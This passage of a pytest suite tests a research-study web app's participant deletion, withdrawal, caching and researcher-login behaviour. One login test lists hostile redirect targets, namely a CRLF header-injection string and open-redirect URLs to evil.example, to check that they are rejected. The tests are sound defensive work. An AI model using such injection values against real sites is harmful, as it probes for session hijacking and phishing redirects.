    header = re.findall(r"<th>(.*?)</th>", html)
    row = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", html, re.S)]
    by = dict(zip(header, row))
    assert by["Consented"] == "1" and by["Declined"] == "1" and "Participants" not in header


def test_a_deleted_participants_browser_and_page_open_nothing_of_the_next_one(app, client, researcher, dbs):
    """Deleting the newest participant must not hand their row id to the next one (SQLite reused
    it): the deleted participant's browser, page token and telemetry outbox then opened and wrote
    the next participant's session."""
    gone = Walker(app.test_client(), "GONE")
    gone.arrive()
    gone.consent()
    old = gone.to_task()
    [gone_id] = dbs.scalars(select(store.Participant.id)).all()
    assert login(client, *researcher).status_code == 302
    page = client.get("/admin/studies/test-study")
    # "Delete data", then "Allow to start again": the row goes too (without it the row stays as
    # the deletion's marker)
    for extra in ({}, {"readmit": "1"}):
        assert client.post(f"/admin/participants/{gone_id}/delete",
                           data={"csrf_token": csrf_of(page.text), **extra}).status_code == 302
    nxt = Walker(app.test_client(), "NEXT")
    nxt.arrive()
    nxt.consent()
    new = nxt.to_task()
    dbs.expire_all()
    [q] = dbs.scalars(select(store.Participant)).all()
    assert q.id != gone_id
    assert q.state["resume_code"] not in gone.client.get("/step", follow_redirects=True).text
    token = {"X-Participant-Token": old["token"]}
    r = gone.client.post(new["urls"]["turns"], json={"index": 0, "prompt": "hello"}, headers=token)
    assert r.status_code in (401, 403)
    batch = {"task": new["task"], "seq": 0, "origin": 1.7e12, "streams": {"mouse": {"t": [1.0], "x": [1.0], "y": [1.0]}}}
    assert gone.client.post("/api/ingest", json=batch, headers=token).status_code in (401, 403)
    assert dbs.scalars(select(store.Turn)).all() == [] and dbs.scalars(select(store.StreamChunk)).all() == []


@pytest.mark.parametrize("target, expected", [
    ("/admin/studies/test-study", "/admin/studies/test-study"),
    ("/admin\r\nSet-Cookie: x=1", "/admin/"),  # was a 500 after the login succeeded
    ("/admin/studies/x\ny", "/admin/"),
    ("//evil.example/admin", "/admin/"),
    ("https://evil.example/admin", "/admin/"),
    ("/admin//evil.example", "/admin/"),
])
def test_login_goes_only_to_a_dashboard_page(client, researcher, target, expected):
    page = client.get("/admin/login")
    r = client.post("/admin/login", query_string={"next": target},
                    data={"csrf_token": csrf_of(page.text), "username": researcher[0], "password": researcher[1]})
    assert r.status_code == 302 and r.location == expected


def test_a_line_break_in_a_dashboard_address_survives_the_login_round_trip(client, researcher):
    r = client.get("/admin/studies/x%0Ay")
    assert r.status_code == 302 and "/admin/login" in r.location
    page = client.get(r.location)
    r = client.post(r.location, data={"csrf_token": csrf_of(page.text), "username": researcher[0],
                                      "password": researcher[1]})
    assert r.status_code == 302 and r.location == "/admin/"


def test_researcher_pages_are_not_kept_in_the_browser_cache(app, client, researcher):
    w = Walker(app.test_client(), "CACHED")
    w.arrive()
    w.consent()
    assert login(client, *researcher).status_code == 302
    for url in ("/admin/", "/admin/studies/test-study", "/admin/studies/test-study/progress.json",
                "/admin/studies/test-study/export?format=parquet"):  # the export: every participant's data
        r = client.get(url)
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store", url
    if "plots" in app.blueprints:
        pseudonym = client.get("/admin/studies/test-study/progress.json").json["participants"][0]["pseudonym"]
        r = client.get(f"/admin/studies/test-study/participants/{pseudonym}/plots")
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"


def test_face_rate_follows_a_chunk_that_reuses_a_deleted_chunks_id(walker, dbs):
    """The dashboard's per-process cache of each gaze chunk's face count (chunks never change) is
    not fooled by a new chunk that gets a deleted one's id (SQLite gives a deleted newest row's id
    to the next row): the face-found rate is the new chunk's."""
    from gazepref.capture_site.quality import participant_quality
    from gazepref.schema import GazeFlag
    from gazepref.signals.gaze_batch import rows_to_chunk_batch

    walker.arrive()
    walker.consent()
    task = walker.to_task()["task"]

    def add_chunk(flags):
        rows = [{"t": float(i), "x": 1.0, "y": 1.0, "flags": float(f)} for i, f in enumerate(flags)]
        chunk = store.chunk_from_batch(task, "gaze", 0, rows_to_chunk_batch(rows), clock_origin_epoch_ms=1.7e12)
        dbs.add(chunk)
        dbs.commit()
        return chunk.id

    def rate():
        (row,) = participant_quality(dbs, _study(dbs))
        return row["face_found_rate"]

    first = add_chunk([GazeFlag.NO_FACE] * 4)
    assert rate() == 0.0
    dbs.delete(dbs.get(store.StreamChunk, first))
    dbs.commit()
    second = add_chunk([0, 0])
    assert rate() == 1.0, f"chunk {second} (first {first}) read from the cache of the deleted one"


def test_a_withdrawn_participant_is_counted_and_listed_as_withdrawn_and_never_exported(app, client, researcher, dbs):
    """A participant who withdrew (the site's "Withdraw from the study") is a row "withdrawn"
    with no data on the dashboard, counted apart from the declined, and left out of exports."""
    from gazepref.capture_site.quality import study_progress

    stays = Walker(app.test_client(), "P-STAYS")
    stays.arrive()
    stays.consent()
    stays.chat_turn(stays.to_task(), 0, "How does sleep help memory?")
    w = Walker(app.test_client(), "P-WITHDRAWS")
    w.arrive()
    w.consent()
    w.chat_turn(w.to_task(), 0, "How do volcanoes erupt?")
    page = w.client.get("/withdraw")
    assert w.client.post("/withdraw", data={"csrf_token": csrf_of(page.text)}).status_code in (302, 303)

    assert login(client, *researcher).status_code == 302
    prog = client.get("/admin/studies/test-study/progress.json").json
    assert (prog["progress"]["consented"], prog["progress"]["declined"], prog["progress"]["withdrawn"]) == (1, 0, 1)
    assert prog["progress"]["turns"] == 1
    [row] = [p for p in prog["participants"] if p["status"] == "withdrawn"]
    assert row["turns"] == 0 and row["samples"] == {} and row["reason"] == "withdrew in task 1; data deleted"
    html = client.get("/admin/studies/test-study").text
    assert 'class="status-withdrawn">withdrawn</td>' in html and 'data-key="withdrawn">1<' in html
    assert "Withdrawn" in client.get("/admin/").text
    r = client.get("/admin/studies/test-study/export?format=parquet")
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    turns = pd.read_parquet(io.BytesIO(zf.read("test-study/turns.parquet")))
    assert turns["prompt"].tolist() == ["How does sleep help memory?"]
    assert turns["participant_id"].nunique() == 1
    with app.extensions["gazepref"].sessions() as s:
        assert study_progress(s, s.scalars(select(store.Study)).one())["withdrawn"] == 1


def test_delete_keeps_a_marker_so_the_same_platform_id_is_not_enrolled_again(make_app, database, monkeypatch,
                                                                               capsys):
    """"Delete data" keeps the row as a marker: of a withdrawn participant the withdrawal's (it
    removed it, and the same platform id then came back in as new), of anyone else one that says
    the data was deleted. Both are listed and counted as such, and the same platform id (a new
    browser, or the old one) gets no fresh session; "Allow to start again" lets it start anew,
    never for one who withdrew. SQLite and PostgreSQL."""
    import uuid

    from gazepref.capture_site.quality import study_progress

    app = make_app(**({"DATABASE_URL": database} if database else {}))
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse battery\n"))
    name = f"ada-{uuid.uuid4().hex[:8]}"  # PostgreSQL: one database for the session's tests
    assert cli(["user", "add", name, "--all-studies", "--password-stdin", "--instance", app.instance_path,
                *(["--db", database] if database else [])]) == 0
    capsys.readouterr()
    counted = ("consented", "declined", "withdrawn", "deleted")

    def counts():  # PostgreSQL: the session's other tests' participants are in the study too
        with app.extensions["gazepref"].sessions() as s:
            prog = study_progress(s, s.scalars(select(store.Study).where(store.Study.slug == "test-study")).one())
        return tuple(prog[k] for k in counted)

    before = counts() if database else (0,) * len(counted)
    run = uuid.uuid4().hex[:8]
    quits, gone = Walker(app.test_client(), f"QUITS-{run}"), Walker(app.test_client(), f"GONE-{run}")
    for w in (quits, gone):
        w.arrive()
        w.consent()
        w.chat_turn(w.to_task(), 0, "How do volcanoes erupt?")
    page = quits.client.get("/withdraw")
    assert quits.client.post("/withdraw", data={"csrf_token": csrf_of(page.text)}).status_code in (302, 303)
    client = app.test_client()
    assert login(client, name, "correct horse battery").status_code == 302
    Sessions = app.extensions["gazepref"].sessions

    def row(pid):
        with Sessions() as s:
            p = s.get(store.Participant, pid)
            return None if p is None else (p.consent, dict(p.state))

    def listed(pid):
        return next(p for p in client.get("/admin/studies/test-study/progress.json").json["participants"]
                    if p["id"] == pid)

    def pid_of(w):
        from gazepref.capture_site.security import pseudonymise

        with Sessions() as s:
            study = s.scalars(select(store.Study).where(store.Study.slug == "test-study")).one()
            return s.scalar(select(store.Participant.id).where(
                store.Participant.study_id == study.id,
                store.Participant.pseudonym == pseudonymise(study.salt, "prolific", w.pid)))

    def delete(pid, **extra):
        page = client.get("/admin/studies/test-study")
        return client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf_of(page.text), **extra})

    q, g = pid_of(quits), pid_of(gone)
    withdrawn = row(q)
    html = client.get("/admin/studies/test-study").text
    assert f'participants/{q}/delete' not in html and f'participants/{g}/delete' in html  # nothing to delete
    # "Delete data" of the withdrawn one (a form of an older page): the withdrawal's marker stays
    assert delete(q).status_code == 302
    assert row(q) == withdrawn and listed(q)["status"] == "withdrawn"
    assert Walker(app.test_client(), quits.pid).arrive().request.path == "/withdrawn"
    assert delete(q, readmit="1").status_code == 409 and row(q) == withdrawn  # never readmitted
    # "Delete data" of one who did not withdraw: the data goes, the row stays as its marker
    assert delete(g).status_code == 302
    consent, state = row(g)
    assert consent is False and set(state) == {"deleted"} and state["deleted"]["step"] == "task:0"
    assert listed(g)["status"] == "deleted" and listed(g)["turns"] == 0
    with Sessions() as s:
        assert s.scalars(select(store.Task.id).where(store.Task.participant_id.in_((q, g)))).all() == []
    assert tuple(n - b for n, b in zip(counts(), before)) == (0, 0, 1, 1)
    html = client.get("/admin/studies/test-study").text
    assert 'class="status-deleted">deleted</td>' in html and "Allow to start again" in html
    # the same platform id: neither a new browser nor the old one gets a fresh session
    for w in (Walker(app.test_client(), gone.pid), gone):
        r = w.arrive()
        assert r.status_code == 403 and "deleted your data" in r.text
        assert w.client.get("/consent", follow_redirects=True).status_code == 403
        assert w.client.get("/step").status_code == 403
    assert row(g) == (consent, state)
    # the researcher lets that platform id start again: a fresh session
    assert delete(g, readmit="1").status_code == 302 and row(g) is None
    again = Walker(app.test_client(), gone.pid)
    assert again.arrive().request.path == "/consent"
    again.consent()
    assert again.current_step() != "done" and pid_of(again) not in (None, g)


@pytest.mark.parametrize("platform, parameters", [
    ("", "?pid={{PARTICIPANT_ID}}"),
    ('[platform]\nname = "prolific"', "?PROLIFIC_PID={{%PROLIFIC_PID%}}&STUDY_ID={{%STUDY_ID%}}&SESSION_ID={{%SESSION_ID%}}"),
    ('[platform]\nname = "mturk"', ""),  # the ExternalQuestion URL: MTurk adds workerId & co.
])
def test_the_participant_link_is_the_studys_platforms_and_unfilled_makes_nobody_one(
        make_app, tmp_path, monkeypatch, capsys, platform, parameters):
    """The study page's link was Prolific's for every platform; whoever posted it as written (an
    MTurk HIT, a mailing list) made everyone who opened it one participant (its placeholder taken for
    an id). Now it is the platform's, and a placeholder left unfilled is no participant id."""
    import html

    from sitetest import study_variant

    app = make_app(STUDY_CONFIG=str(study_variant(tmp_path / "study.toml", platform)))
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse battery\n"))
    assert cli(["user", "add", "ada", "--all-studies", "--password-stdin", "--instance", app.instance_path]) == 0
    client = app.test_client()
    assert login(client, "ada", "correct horse battery").status_code == 302
    page = client.get("/admin/studies/test-study").text
    link = html.unescape(re.search(r'<code id="participant-link">(.*?)</code>', page).group(1))
    assert link == "http://localhost/s/test-study/" + parameters
    admitted = []
    for _ in range(2):  # two people open the link as written
        w = Walker(app.test_client())
        arrived = w.client.get(link.removeprefix("http://localhost"), follow_redirects=True)
        admitted.append(arrived.status_code == 200 and w.consent().status_code == 200)
    with app.extensions["gazepref"].sessions() as s:
        people = s.scalars(select(store.Participant)).all()
    # a study open to anyone admits each as a participant of their own; a platform's study refuses them
    assert admitted == [not platform] * 2 and len({p.pseudonym for p in people}) == len(people) == 2 * (not platform)


def _site_with_researcher(make_app, database, monkeypatch, capsys):
    """(app, logged-in researcher client, row(pid) -> (consent, state) or None) on SQLite or
    PostgreSQL (one server for the session's tests: a fresh account name)."""
    import uuid

    app = make_app(**({"DATABASE_URL": database} if database else {}))
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse battery\n"))
    name = f"ada-{uuid.uuid4().hex[:8]}"
    assert cli(["user", "add", name, "--all-studies", "--password-stdin", "--instance", app.instance_path,
                *(["--db", database] if database else [])]) == 0
    capsys.readouterr()
    client = app.test_client()
    assert login(client, name, "correct horse battery").status_code == 302

    def row(pid):
        with app.extensions["gazepref"].sessions() as s:
            p = s.get(store.Participant, pid)
            return None if p is None else (p.consent, dict(p.state))

    return app, client, row


def _consenting(app, who):
    """A participant ``who`` (a fresh platform id) on task 1 with a turn; (walker, row id, pseudonym)."""
    w = Walker(app.test_client(), who)
    w.arrive()
    w.consent()
    w.chat_turn(w.to_task(), 0, "How do volcanoes erupt?")
    with w.client.session_transaction() as sess:
        pid = sess["pid"]
    with app.extensions["gazepref"].sessions() as s:
        return w, pid, s.get(store.Participant, pid).pseudonym


def _turns_of(app, pid):
    with app.extensions["gazepref"].sessions() as s:
        return len(s.scalars(select(store.Turn.id).join(store.Task).where(store.Task.participant_id == pid)).all())


def test_allow_to_start_again_is_refused_for_a_row_whose_data_was_not_deleted(make_app, database, monkeypatch,
                                                                                capsys):
    """``readmit=1`` is for a deletion's marker only: of a participant still in the study (a
    crafted or mistaken request) it is a 409 that deletes nothing (it must not delete the data and
    the row at once, skipping the marker), of a withdrawn one a 409 too (never readmitted), of a
    declined one as well. SQLite and PostgreSQL."""
    import uuid

    app, client, row = _site_with_researcher(make_app, database, monkeypatch, capsys)
    run = uuid.uuid4().hex[:8]
    _, live, _ = _consenting(app, f"LIVE-{run}")
    w, quits, _ = _consenting(app, f"QUITS-{run}")
    page = w.client.get("/withdraw")
    assert w.client.post("/withdraw", data={"csrf_token": csrf_of(page.text)}).status_code in (302, 303)
    no = Walker(app.test_client(), f"NO-{run}")
    no.arrive()
    no.consent("decline")
    with no.client.session_transaction() as sess:
        declined = sess["pid"]
    before = {pid: row(pid) for pid in (live, quits, declined)}
    csrf = csrf_of(client.get("/admin/studies/test-study").text)
    for pid in (live, quits, declined):
        r = client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf, "readmit": "1"})
        assert r.status_code == 409, (pid, r.status_code, row(pid), _turns_of(app, pid))
        assert row(pid) == before[pid]
    assert _turns_of(app, live) == 1


def test_delete_decides_on_the_row_as_it_is_when_another_researcher_readmitted_it_meanwhile(
        make_app, database, monkeypatch, capsys):
    """Two researchers at once: the row one of them is deleting (or letting start again) is
    removed by the other's "Allow to start again" after the request read it: a 404 "no such
    participant", never a 500. SQLite and PostgreSQL."""
    import uuid

    from sqlalchemy import event

    from gazepref.capture_site.purge import purge_participant

    app, client, row = _site_with_researcher(make_app, database, monkeypatch, capsys)
    for extra in ({}, {"readmit": "1"}):
        _, pid, _ = _consenting(app, f"TWICE-{uuid.uuid4().hex[:8]}")
        csrf = csrf_of(client.get("/admin/studies/test-study").text)
        assert client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf}).status_code == 302
        armed = [True]

        def other_researcher(target, _context, pid=pid, armed=armed):
            if armed[0] and target.id == pid:  # just after this request read the row
                armed[0] = False
                with app.extensions["gazepref"].sessions() as s:
                    purge_participant(s, s.get(store.Participant, pid), readmit=True)
                    s.commit()

        event.listen(store.Participant, "load", other_researcher)
        try:
            r = client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf, **extra})
        finally:
            event.remove(store.Participant, "load", other_researcher)
        assert not armed[0] and r.status_code == 404 and "no such participant" in r.text
        assert row(pid) is None


def test_delete_waits_for_a_set_up_log_write_and_its_marker_stays(make_app, database, monkeypatch, capsys):
    """"Delete data" while the set-up log (other requests, processes or hosts) writes the
    participant's state under the row's lock: the deletion waits for it and decides on the row
    as it then is, so the marker is what stays (the set-up log's write would otherwise put the
    whole live state back, platform ids included, over the marker: SQLite, where the log's lock
    is the host's write lock the deletion did not take). SQLite and PostgreSQL."""
    import threading
    import uuid

    from sqlalchemy import event

    from gazepref.capture_site import setup_log

    app, client, row = _site_with_researcher(make_app, database, monkeypatch, capsys)
    _, pid, pseudonym = _consenting(app, f"SETUP-{uuid.uuid4().hex[:8]}")
    csrf = csrf_of(client.get("/admin/studies/test-study").text)
    done, threads = {}, []

    def researcher_deletes():
        done["r"] = client.post(f"/admin/participants/{pid}/delete", data={"csrf_token": csrf})

    def meanwhile(target, _context):
        if not threads and target.id == pid:  # the set-up log has just read the row under its lock
            threads.append(threading.Thread(target=researcher_deletes))
            threads[0].start()
            threads[0].join(2.0)

    event.listen(store.Participant, "load", meanwhile)
    try:
        with app.app_context():
            setup_log.note_camera_error((pid, pseudonym), "denied")
    finally:
        event.remove(store.Participant, "load", meanwhile)
    threads[0].join(60)
    assert done["r"].status_code == 302
    consent, state = row(pid)
    assert consent is False and set(state) == {"deleted"}, state
    assert _turns_of(app, pid) == 0


@pytest.mark.parametrize("how", ["delete", "withdraw"])
def test_a_deletion_or_withdrawal_forgets_the_participants_cached_plot_data_at_once(app, client, researcher, how):
    """The plots pages keep a participant's data and pictures in this process's memory (LRU):
    their withdrawal or the deletion of their data drops them at once, as it drops their webcam
    tracker, instead of leaving them until other participants' plots push them out."""
    if "plots" not in app.blueprints:
        pytest.skip("the plots views are not installed")
    w = Walker(app.test_client(), f"PLOTTED-{how}")
    w.arrive()
    w.consent()
    w.chat_turn(w.to_task(), 0, "How do volcanoes erupt?")
    keeps = Walker(app.test_client(), "PLOTTED-KEEPS")
    keeps.arrive()
    keeps.consent()
    keeps.chat_turn(keeps.to_task(), 0, "How does sleep help memory?")
    with w.client.session_transaction() as sess:
        pid = sess["pid"]
    with app.extensions["gazepref"].sessions() as s:
        pseudonyms = {p.id: p.pseudonym for p in s.scalars(select(store.Participant))}
    assert login(client, *researcher).status_code == 302
    for pseudonym in pseudonyms.values():
        assert client.get(f"/admin/studies/test-study/participants/{pseudonym}/plots").status_code == 200

    def cached():
        return {key[1] for cache in app.extensions["gazepref_plots_cache"] for key in cache}

    assert cached() == set(pseudonyms.values())
    if how == "delete":
        page = client.get("/admin/studies/test-study")
        assert client.post(f"/admin/participants/{pid}/delete",
                           data={"csrf_token": csrf_of(page.text)}).status_code == 302
    else:
        page = w.client.get("/withdraw")
        assert w.client.post("/withdraw", data={"csrf_token": csrf_of(page.text)}).status_code in (302, 303)
    assert cached() == {p for i, p in pseudonyms.items() if i != pid}


def test_the_study_page_opens_for_a_config_this_version_cannot_read(make_app, monkeypatch):
    """The study page reads the study's config since it shows the platform's link; a row this
    version cannot read (written by a host of a newer version, or an old study) made the page a 500,
    so its export and 'Delete data' were out of reach. The page opens and says why there is no link."""
    app = make_app()
    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse battery\n"))
    assert cli(["user", "add", "ada", "--all-studies", "--password-stdin", "--instance", app.instance_path]) == 0
    site = app.extensions["gazepref"]
    with site.sessions() as s, s.begin():
        study = s.query(store.Study).one()
        study.config = {**study.config, "a_newer_section": {"key": 1}}
    site._configs.clear()  # a dashboard process that has not read this study before
    client = app.test_client()
    assert login(client, "ada", "correct horse battery").status_code == 302
    page = client.get("/admin/studies/test-study")
    assert page.status_code == 200
    assert 'id="participant-link"' not in page.text and "a_newer_section" in page.text
    assert "/admin/studies/test-study/export" in page.text  # the export form is there
